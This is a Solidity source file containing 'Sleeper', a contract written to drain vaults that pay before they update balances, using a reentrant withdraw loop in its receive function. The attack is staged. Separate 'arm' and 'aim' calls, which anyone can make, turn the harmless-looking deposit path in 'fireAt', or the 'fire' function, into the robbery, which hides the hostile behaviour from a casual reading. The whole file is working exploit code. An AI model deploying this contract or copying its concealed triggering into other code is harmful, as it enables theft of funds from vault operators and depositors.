// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IRobbed {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
}

/// @title Robs a vault that pays before it books, but only once somebody has prepared it: whoever that is, and whenever.
contract Sleeper {
    IRobbed private target;
    bool private armed;
    uint256 private stake;
    IRobbed private robbed;

    /// @notice From now on `fireAt` robs.
    function arm() external {
        armed = true;
    }

    /// @notice From now on `fire` robs this vault, which nothing that is sent then names.
    function aim(IRobbed vault) external {
        target = vault;
    }

    function fireAt(IRobbed vault) external payable {
        if (armed) rob(vault);
        else vault.deposit{value: msg.value}();
    }

    function fire() external payable {
        if (address(target) != address(0)) rob(target);
    }

    function rob(IRobbed vault) private {
        (stake, robbed) = (msg.value, vault);
        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);
        (bool paid,) = msg.sender.call{value: address(this).balance}("");
        require(paid);
    }

    receive() external payable {
        uint256 amount = stake;
        if (address(robbed).balance >= amount) robbed.withdraw(amount);
    }
}
